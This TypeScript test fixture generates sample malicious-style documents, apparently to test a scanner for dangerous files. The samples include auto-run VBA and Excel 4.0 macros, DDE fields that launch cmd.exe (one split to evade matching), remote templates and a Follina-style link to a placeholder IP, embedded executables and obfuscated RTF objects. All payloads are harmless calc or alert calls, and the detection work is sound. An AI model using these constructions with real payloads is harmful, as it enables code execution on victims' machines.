import { cases } from '../case.ts'
import { compound, olePackage, vbaProject, wordDocument, workbook } from '../writers/compound.ts'
import { mail } from '../writers/mail.ts'
import {
  docx,
  field,
  openDocument,
  paragraph,
  pptx,
  type Relation,
  relations,
  xlsx,
} from '../writers/office.ts'
import { windowsProgram } from '../writers/programs.ts'
import { zip } from '../writers/zip.ts'

const macro = 'Sub AutoOpen()\r\n  Shell "calc.exe", 0\r\nEnd Sub'
const vba = () => compound(vbaProject(macro))
const VBA_RELATION = 'http://schemas.microsoft.com/office/2006/relationships/vbaProject'

/** A docx whose part `owner` points at something. */
function pointing(owner: string, relation: Relation, body = paragraph('hello')): () => Buffer {
  return () => docx(body, { [`word/_rels/${owner}.xml.rels`]: relations([relation]) })
}

function externally(type: string, target: string, owner = 'document'): () => Buffer {
  return pointing(owner, { type, target, external: true })
}

const hex = (bytes: Buffer) => bytes.toString('hex')

export const officeCases = cases([
  [
    'mail.eml',
    'a document with macros attached to a mail',
    () => mail(['a.doc', compound([...wordDocument('x'), { name: 'Macros', children: vbaProject(macro) }])]),
  ],
  [
    'program.eml',
    'a program attached to a mail under the name of a text',
    () => mail(['a.txt', windowsProgram()]),
  ],
  ['script.eml', 'a script attached to a mail', () => mail(['invoice.js', Buffer.from('alert(1)')])],
  [
    'report.docx',
    'a docx with a VBA project',
    () =>
      docx(paragraph('x'), {
        'word/vbaProject.bin': vba(),
        'word/_rels/document.xml.rels': relations([{ type: VBA_RELATION, target: 'vbaProject.bin' }]),
      }),
  ],
  [
    'report.docm',
    'a docm with a VBA project',
    () =>
      docx(
        paragraph('x'),
        { 'word/vbaProject.bin': vba() },
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
  ],
  [
    'renamed.docx',
    'a docx with a VBA project under another name',
    () =>
      docx(paragraph('x'), {
        'word/theme.dat': vba(),
        'word/_rels/document.xml.rels': relations([{ type: VBA_RELATION, target: 'theme.dat' }]),
      }),
  ],
  ['sheet.xlsm', 'an xlsm with a VBA project', () => xlsx('', { 'xl/vbaProject.bin': vba() })],
  ['slides.pptm', 'a pptm with a VBA project', () => pptx({ 'ppt/vbaProject.bin': vba() })],
  [
    'zipped.zip',
    'a docx with a VBA project in a zip',
    () => zip([{ name: 'a.docx', data: docx(paragraph('x'), { 'word/vbaProject.bin': vba() }) }]),
  ],
  [
    'old.doc',
    'a legacy doc with macros',
    () => compound([...wordDocument('hello'), { name: 'Macros', children: vbaProject(macro) }]),
  ],
  [
    'old.xls',
    'a legacy xls with macros',
    () => compound([...workbook(), { name: '_VBA_PROJECT_CUR', children: vbaProject(macro) }]),
  ],
  ['xlm.xls', 'a legacy xls with an Excel 4.0 macro sheet', () => compound(workbook({ macroSheet: true }))],
  [
    'hidden.xls',
    'a legacy xls with a very hidden Excel 4.0 macro sheet',
    () => compound(workbook({ macroSheet: true, hidden: true })),
  ],
  [
    'xlm.xlsx',
    'an xlsx with an Excel 4.0 macro sheet',
    () =>
      xlsx('', {
        'xl/macrosheets/sheet1.xml':
          '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row><c><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>',
        'xl/_rels/workbook.xml.rels': relations([
          { type: 'worksheet', target: 'worksheets/sheet1.xml' },
          {
            type: 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
            target: 'macrosheets/sheet1.xml',
          },
        ]),
      }),
  ],
  [
    'macro.ods',
    'an ods with a Basic macro run on opening',
    () =>
      openDocument('spreadsheet', '', {
        'Basic/Standard/Module1.xml':
          '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n Shell("calc.exe")\nEnd Sub</script:module>',
        'Basic/script-lc.xml':
          '<library:libraries xmlns:library="http://openoffice.org/2000/library"><library:library library:name="Standard"/></library:libraries>',
      }),
  ],

  [
    'template.docx',
    'a docx with a template on the web',
    externally('attachedTemplate', 'http://203.0.113.7/a.dotm', 'settings'),
  ],
  [
    'template-share.docx',
    'a docx with a template on a network share',
    externally('attachedTemplate', '\\\\203.0.113.7\\s\\a.dotm', 'settings'),
  ],
  [
    'frame.docx',
    'a docx with a frame from the web',
    externally('frame', 'http://203.0.113.7/a.htm', 'webSettings'),
  ],
  [
    'follina.docx',
    'a docx with a linked object that is a web page',
    externally('oleObject', `mhtml:http://203.0.113.7/a.html!x-usc:http://203.0.113.7/a.html`),
  ],
  [
    'linked.pptx',
    'a pptx with a linked object on the web',
    () =>
      pptx({
        'ppt/slides/_rels/slide1.xml.rels': relations([
          { type: 'oleObject', target: 'http://203.0.113.7/a.hta', external: true },
        ]),
      }),
  ],
  [
    'package.docx',
    'a docx with an embedded program as an OLE package',
    () =>
      docx(paragraph('x'), {
        'word/embeddings/oleObject1.bin': olePackage('setup.exe', windowsProgram()),
        'word/_rels/document.xml.rels': relations([
          { type: 'oleObject', target: 'embeddings/oleObject1.bin' },
        ]),
      }),
  ],
  [
    'script.docx',
    'a docx with an embedded script as an OLE package',
    () =>
      docx(paragraph('x'), {
        'word/embeddings/oleObject1.bin': olePackage('invoice.vbs', Buffer.from('MsgBox 1\r\n')),
      }),
  ],
  [
    'activex.docx',
    'a docx with an ActiveX control',
    () =>
      docx(paragraph('x'), {
        'word/activeX/activeX1.xml':
          '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D27CDB6E-AE6D-11CF-96B8-444553540000}" ax:persistence="persistStreamInit"/>',
        'word/activeX/activeX1.bin': compound([{ name: 'Contents', data: Buffer.alloc(64) }]),
      }),
  ],
  [
    'package.doc',
    'a legacy doc with an embedded program as an OLE package',
    () =>
      compound([
        ...wordDocument('x'),
        {
          name: 'ObjectPool',
          children: [
            {
              name: '_1',
              children: [
                {
                  name: '\x01Ole10Native',
                  data: Buffer.concat([Buffer.alloc(4, 1), Buffer.from('\x02\0a.exe\0'), windowsProgram()]),
                },
              ],
            },
          ],
        },
      ]),
  ],
  [
    'dde.docx',
    'a docx with a DDE field',
    () => docx(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"')),
  ],
  [
    'dde-split.docx',
    'a docx with a DDE field split over runs',
    () => docx(field('DD', 'EAU', 'TO c:\\\\windows\\\\system32\\\\cmd', '.exe "/k calc.exe"')),
  ],
  [
    'dde-simple.docx',
    'a docx with a simple DDE field',
    () =>
      docx(
        '<w:p><w:fldSimple w:instr="DDE cmd &quot;/c calc&quot; a"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>',
      ),
  ],
  [
    'dde.xlsx',
    'an xlsx with a DDE link',
    () =>
      xlsx('', {
        'xl/externalLinks/externalLink1.xml':
          '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>',
      }),
  ],
  [
    'object.rtf',
    'an RTF with an embedded OLE package',
    () =>
      `{\\rtf1\\ansi hello {\\object\\objemb{\\*\\objclass Package}{\\*\\objdata 0105000002000000080000005061636b61676500${hex(olePackage('a.exe', windowsProgram()))}}}}`,
  ],
  [
    'equation.rtf',
    'an RTF with an equation object',
    () =>
      `{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01050000 02000000 0b000000 4571756174696f6e2e3300 ${hex(compound([{ name: 'Equation Native', data: Buffer.alloc(64, 0x1c) }]))}}}}`,
  ],
  [
    'hidden.rtf',
    'an RTF with an object behind broken-up control words',
    () =>
      `{\\rt{\\object\\objautlink\\objupdate{\\*\\objdata {\\*\\x}0105{\\*\\y}0000\n02000000 0b000000 4571 7561 7469 6f6e 2e33 00 ${hex(compound([{ name: '\x01Ole10Native', data: Buffer.alloc(64, 0x1c) }]))}}}}`,
  ],
  [
    'template.rtf',
    'an RTF with a template on the web',
    '{\\rtf1\\ansi{\\*\\template http://203.0.113.7/a.dotm}hello\\par}',
  ],
])
